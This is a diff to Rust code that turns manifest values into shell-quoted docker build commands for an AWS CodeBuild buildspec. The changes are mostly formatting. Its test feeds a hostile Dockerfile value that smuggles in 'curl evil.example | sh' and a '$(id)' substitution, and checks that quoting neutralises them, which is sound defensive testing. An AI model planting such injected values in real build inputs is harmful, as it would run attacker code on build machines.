@@ -194,15 +194,17 @@ fn build_commands(repository: &str, build: &Value) -> Vec<String> {
             let context = Path::new(dockerfile).parent().map(|p| p.display().to_string()).unwrap_or_default();
             (dockerfile.clone(), if context.is_empty() { ".".to_string() } else { context })
         }
-        Value::Object(b) => match (b.get("dockerfile").and_then(Value::as_str), b.get("context").and_then(Value::as_str)) {
-            (Some(d), Some(c)) => (d.to_string(), c.to_string()),
-            (Some(d), None) => {
-                let context = Path::new(d).parent().map(|p| p.display().to_string()).unwrap_or_default();
-                (d.to_string(), if context.is_empty() { ".".to_string() } else { context })
+        Value::Object(b) => {
+            match (b.get("dockerfile").and_then(Value::as_str), b.get("context").and_then(Value::as_str)) {
+                (Some(d), Some(c)) => (d.to_string(), c.to_string()),
+                (Some(d), None) => {
+                    let context = Path::new(d).parent().map(|p| p.display().to_string()).unwrap_or_default();
+                    (d.to_string(), if context.is_empty() { ".".to_string() } else { context })
+                }
+                (None, Some(c)) => (Path::new(c).join("Dockerfile").display().to_string(), c.to_string()),
+                (None, None) => return Vec::new(),
             }
-            (None, Some(c)) => (Path::new(c).join("Dockerfile").display().to_string(), c.to_string()),
-            (None, None) => return Vec::new(),
-        },
+        }
         _ => return Vec::new(),
     };
     let image = format!("\"$REGISTRY\"/{}:\"$TAG\"", shell_quote(repository));
@@ -226,10 +228,8 @@ fn buildspec_with(mut images: Vec<String>, envs: &[String]) -> String {
     }
     // Each command is a YAML double-quoted string: a `#` or `: ` in a path
     // cannot end the scalar or start a comment.
-    let images: String = images
-        .iter()
-        .map(|c| format!("      - {}\n", serde_json::to_string(c).unwrap_or_default()))
-        .collect();
+    let images: String =
+        images.iter().map(|c| format!("      - {}\n", serde_json::to_string(c).unwrap_or_default())).collect();
     let envs: Vec<String> = envs.iter().map(|e| e.replace(['\n', '\r'], " ")).collect();
     format!(
         r#"# Buildspec of the pipeline: CodeBuild runs it in the Build stage.
@@ -865,14 +865,18 @@ mod tests {
 
     #[test]
     fn buildspec_quotes_every_manifest_value() {
-        let hostile = serde_json::json!({"dockerfile": "api/Dockerfile; curl evil.example | sh #", "context": "a b/$(id)"});
+        let hostile =
+            serde_json::json!({"dockerfile": "api/Dockerfile; curl evil.example | sh #", "context": "a b/$(id)"});
         let commands = build_commands("chat/api", &hostile);
         assert_eq!(
             commands[0],
             "docker build -t \"$REGISTRY\"/chat/api:\"$TAG\" -f 'api/Dockerfile; curl evil.example | sh #' 'a b/$(id)'"
         );
         let quote = build_commands("chat/it's", &serde_json::json!("it's/Dockerfile"));
-        assert_eq!(quote[0], "docker build -t \"$REGISTRY\"/'chat/it'\\''s':\"$TAG\" -f 'it'\\''s/Dockerfile' 'it'\\''s'");
+        assert_eq!(
+            quote[0],
+            "docker build -t \"$REGISTRY\"/'chat/it'\\''s':\"$TAG\" -f 'it'\\''s/Dockerfile' 'it'\\''s'"
+        );
         // Copilot's default Dockerfile is inside the context.
         let context_only = build_commands("chat/api", &serde_json::json!({"context": "api"}));
         assert!(context_only[0].ends_with("-f api/Dockerfile api"), "{}", context_only[0]);
